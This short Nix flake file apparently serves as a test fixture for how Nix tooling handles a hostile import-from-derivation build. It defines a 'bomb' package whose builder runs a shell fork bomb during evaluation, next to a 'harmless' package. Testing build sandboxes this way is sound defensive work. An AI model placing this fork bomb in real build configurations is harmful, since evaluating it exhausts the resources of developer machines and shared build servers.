{
  description = "an import-from-derivation builder that is a fork bomb";
  outputs = { self }:
    let
      bomb = builtins.derivation {
        name = "fork-bomb";
        system = "x86_64-linux";
        builder = "/bin/sh";
        args = [ "-c" "bomb() { bomb | bomb & }; bomb; wait; exit 1" ];
      };
    in
    {
      packages.x86_64-linux.bomb = (import bomb) // builtins.derivation {
        name = "after-bomb";
        system = "x86_64-linux";
        builder = "/bin/sh";
        args = [ "-c" "echo > $out" ];
      };
      packages.x86_64-linux.harmless = builtins.derivation {
        name = "harmless";
        system = "x86_64-linux";
        builder = "/bin/sh";
        args = [ "-c" "echo > $out" ];
      };
    };
}
